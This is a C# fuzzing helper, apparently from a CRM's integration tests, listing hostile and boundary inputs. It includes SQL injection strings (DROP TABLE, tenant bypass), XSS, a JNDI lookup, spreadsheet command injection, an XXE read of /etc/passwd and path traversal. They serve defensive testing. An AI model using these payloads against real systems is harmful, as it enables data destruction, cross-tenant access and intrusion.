using System.Globalization;
using CsCheck;

namespace M3CoreCrm.IntegrationTests.Hardening.Fuzzing;

/// <summary>
/// Hostile and boundary values: SQL and script fragments, unicode and control characters, huge strings, numbers
/// at and past the limits of int, long, double and decimal. Strings are plain .NET strings; numbers are JSON text,
/// so that values no .NET type can hold (1e400, 2^64) can be sent as they are.
/// </summary>
internal static class Nasty
{
    internal static readonly string[] Sql =
    [
        "' OR '1'='1", "'; DROP TABLE leads.leads; --", "\" OR 1=1 --", "1; SELECT pg_sleep(0)--", "%' OR tenant_id IS NOT NULL --",
        "') UNION SELECT id, tenant_id FROM identity.users --", "$$;$$", "%_%", "\\", "\\'", "E'\\x00'", "'||(SELECT current_user)||'",
        "SET app.tenant_id = '00000000-0000-0000-0000-000000000000'", "*", "%", "_", "[a-z]", "a:*", "!!!", "&|<->",
    ];

    internal static readonly string[] Script =
    [
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)", "{{7*7}}", "${jndi:ldap://x/a}",
        "<!--", "]]>", "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)", "-2+3", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    ];

    internal static readonly string[] Unicode =
    [
        "Zoë Åström", "محمد العلي", "张伟", "👩‍👩‍👧‍👦", "\u202Eevil\u202C", "a\u200Bb", "Z̤͔ͧ̑̓", "ß", "İı", "\uFEFF", "\uFFFD", "\uFFFF",
        "\uD800", "\uDC00x", "𝕬𝖇𝖈", "ﷺ", "\u0301", "Ω≈ç√∫", "ｆｕｌｌ", "\u00A0", "\u3000",
    ];

    internal static readonly string[] Control = ["\u0000", "\u0001\u0002\u0003", "\t", "\r\n", "\n", "\u007F", "\u0085", "\u001B[31m", "a\u0000b", "\b\f"];

    internal static readonly string[] Formats =
    [
        "", " ", "null", "undefined", "NaN", "Infinity", "-0", "0x1F", "1e309", "2147483648", "-9223372036854775809", "true",
        "00000000-0000-0000-0000-000000000000", "not-a-guid", "{00000000-0000-0000-0000-000000000000}", "0001-01-01", "9999-12-31T23:59:59Z",
        "2024-02-30", "2026-13-01T00:00:00Z", "24:00", "yesterday", "@", "a@", "@b", "x@y", "a@b.c", "+", "+0", "+99999999999999999999",
        "../../etc/passwd", "..\\..\\windows", "%00", "%2e%2e%2f", "?a=b&c=d", "#frag", "/", "C:\\", "~", "' '",
    ];

    /// <summary>Well-formed JSON numbers, many out of range for the .NET types they meet.</summary>
    internal static readonly string[] Numbers =
    [
        "0", "-0", "-1", "1", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "18446744073709551616", "79228162514264337593543950336", "1e308", "-1e308", "1e400", "1E-400",
        "0.000000001", "1.5", "-1.5", "123456789012345678901234567890.123", "1e2", "100000000000000000000000000000000000000000",
    ];

    internal static readonly Gen<string> HugeString = Gen.OneOf(
        Gen.Int[1_000, 20_000].Select(n => new string('x', n)),
        Gen.Int[300, 3_000].Select(n => string.Concat(Enumerable.Repeat("é👍", n))),
        Gen.Const(() => new string('a', 1_100_000)), // over the 1 MiB body limit
        Gen.Int[256, 5_000].Select(n => new string('\u0000', n)));

    internal static readonly Gen<string> RandomString = Gen.OneOf(
        Gen.String[0, 40],
        Gen.String.AlphaNumeric,
        Gen.String[Gen.Char[char.MinValue, char.MaxValue], 0, 30]);

    /// <summary>A hostile string; huge ones are rare so that a run stays fast.</summary>
    internal static readonly Gen<string> String = Gen.Frequency(
        (4, Gen.OneOf(Sql)),
        (3, Gen.OneOf(Script)),
        (4, Gen.OneOf(Unicode)),
        (3, Gen.OneOf(Control)),
        (4, Gen.OneOf(Formats)),
        (5, RandomString),
        (1, HugeString));

    internal static readonly Gen<string> Number = Gen.Frequency(
        (5, Gen.OneOf(Numbers)),
        (2, Gen.Int.Select(i => i.ToString(CultureInfo.InvariantCulture))),
        (1, Gen.Long.Select(l => l.ToString(CultureInfo.InvariantCulture))),
        (1, Gen.Double.Where(double.IsFinite).Select(d => d.ToString("R", CultureInfo.InvariantCulture))));
}
